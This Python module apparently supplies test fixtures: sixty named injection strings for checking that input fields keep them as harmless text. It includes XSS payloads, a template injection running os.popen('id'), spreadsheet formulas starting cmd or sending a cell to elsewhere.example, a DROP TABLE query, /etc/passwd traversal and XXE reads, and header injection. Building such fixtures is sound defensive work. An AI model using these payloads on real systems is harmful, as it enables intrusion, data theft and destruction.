"""Sixty texts that attackers write into fields; each is harmless wherever it stays a text."""

from typing import NamedTuple


class Payload(NamedTuple):
    """A text and what it tries."""

    name: str
    text: str


_RUN = "window.intruded=1"

PAYLOADS = tuple(
    Payload(*one)
    for one in (
        # HTML
        ("script element", f"<script>{_RUN}</script>"),
        ("script with a source", "<script src=//elsewhere.example/x.js></script>"),
        ("image that fails", f"<img src=x onerror={_RUN}>"),
        ("drawing that loads", f"<svg onload={_RUN}>"),
        ("drawing with a script", f"<svg><script>{_RUN}</script></svg>"),
        ("mathematics", f"<math><mtext><img src onerror={_RUN}></mtext></math>"),
        ("frame with a document", f'<iframe srcdoc="<script>{_RUN}</script>"></iframe>'),
        ("form that sends elsewhere", "<form action=//elsewhere.example><button>Weiter</button></form>"),
        ("base address", '<base href="//elsewhere.example/">'),
        ("page that moves on", '<meta http-equiv="refresh" content="0;url=//elsewhere.example">'),
        ("end of a text field", f"</textarea><script>{_RUN}</script>"),
        ("end of a title", f"</title><script>{_RUN}</script>"),
        ("end of a comment", f"--><img src=x onerror={_RUN}><!--"),
        ("broken element", f"<img src=x onerror={_RUN} //"),
        ("nested element", f"<scr<script>ipt>{_RUN}</scr</script>ipt>"),
        ("mixed case", f"<ScRiPt>{_RUN}</sCrIpT>"),
        ("open dialog", f"<details open ontoggle={_RUN}>"),
        ("entities", "&lt;script&gt;window.intruded=1&lt;/script&gt;"),
        ("numbered entities", "&#60;script&#62;window.intruded=1&#60;/script&#62;"),
        # attributes
        ("end of an attribute", f'" onmouseover="{_RUN}" x="'),
        ("end of a single-quoted attribute", f"' onfocus='{_RUN}' autofocus='"),
        ("attribute and element", f'"><img src=x onerror={_RUN}>'),
        ("attribute without quotes", f"x onpointerenter={_RUN} "),
        # scripts, templates, styles
        ("end of a script", f'</script><script>{_RUN}//"'),
        ("end of a string", f'";{_RUN};//'),
        ("template literal", "${window.intruded=1}"),
        ("line separators", f"\u2028{_RUN}\u2029//"),
        ("page template", "{{7*7}}"),
        ("page template that runs", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        ("block of a page template", "{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}"),
        ("other templates", "#{7*7} <%= 7*7 %> ${{7*7}}"),
        ("format", "%(name)s %s %n {0.__class__} %99999999d"),
        ("prototype", "__proto__"),
        ("style", "x;background:url(//elsewhere.example/);}body{display:none}"),
        # addresses
        ("script as an address", f"javascript:{_RUN}"),
        ("script as an address, with blanks", f"java\tscript:{_RUN}"),
        ("data as an address", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
        ("Markdown link", f"[Hier](javascript:{_RUN}) ![x](//elsewhere.example/x.png) <https://elsewhere.example>"),
        ("Markdown link with an attribute", f'[Hier](https://example.org "onmouseover={_RUN}")'),
        ("HTML link", f'<a href="javascript:{_RUN}">Hier</a>'),
        # spreadsheets
        ("formula", '=HYPERLINK("https://elsewhere.example/?x="&A1;"Hier")'),
        ("formula that starts a program", "=cmd|' /C calc'!A0"),
        ("plus", "+1+cmd|' /C calc'!A0"),
        ("minus", "-2+3+cmd|' /C calc'!A0"),
        ("at", "@SUM(1+9)*cmd|' /C calc'!A0"),
        ("formula in full width", "＝1＋1"),
        ("formula after a line end", "Text\r\n=1+1\n@SUM(1)"),
        ("quotes and separators", 'x";=1+1;"y'),
        # databases and files
        ("query", "'; DROP TABLE session; --"),
        ("query that is always true", '" OR "1"="1'),
        ("path", "../../../../etc/passwd"),
        ("path of another system", "..\\..\\con.\u202excod.exe"),
        ("entities of XML", '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>'),
        ("end of CDATA", "]]><x/><![CDATA["),
        ("header of an answer", "x\r\nSet-Cookie: intruded=1\r\n\r\n<script>"),
        # signs
        ("reversed order", "Zahlung \u202e000,1\u202c € an \u2067abc"),
        ("signs without width and noncharacters", "pass\u200bwort\u2060\ufeff\u00ad \ufdd0\U000e0041"),
        ("zero, bell, escape and half a sign", "a\x00b\x07c\x1b[31md\ud800e\udfff"),
        (
            "families, flags and many marks",
            "👩‍👩‍👧‍👦 🏴\U000e0067\U000e0062\U000e0077\U000e006c\U000e0073\U000e007f Z" + "\u0351" * 40 + " نص עברית",
        ),
        ("very long", "Donaudampfschifffahrt" * 400),
    )
)
